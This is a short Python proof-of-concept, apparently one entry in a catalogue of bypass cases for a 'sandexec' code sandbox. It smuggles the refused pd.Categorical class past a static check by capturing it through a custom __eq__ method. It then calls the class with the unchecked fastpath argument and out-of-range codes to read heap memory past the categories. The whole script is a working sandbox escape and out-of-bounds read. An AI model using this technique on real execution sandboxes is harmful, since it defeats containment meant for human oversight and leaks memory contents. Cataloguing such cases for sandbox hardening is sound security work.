# source: sandexec README, "The static check", (pd.Categorical's fifth positional is fastpath: codes never range-checked read the heap; Categorical as a value is refused); Python data model: pd.Categorical == box calls box.__eq__
# family: class machinery: a refused library class compared with == hands itself to the script's __eq__ (pd.Categorical) -> fastpath by position
# goal: reads heap memory past the categories through unchecked codes
import numpy as np
import pandas as pd


class Box:
    def __init__(self):
        self.got = None

    def __eq__(self, other):
        self.got = other
        return True


box = Box()
same = pd.Categorical == box
K = box.got
print("class:", K)
# fifth positional parameter is fastpath: codes taken as they are
codes = np.array([0, 1, 50, 200, 4000], dtype=np.int16)
cat = K(codes, pd.Index(np.arange(2, dtype=np.int64)), False, None, True)
print("codes:", cat.codes)
print("values read past the two categories:", np.asarray(cat))
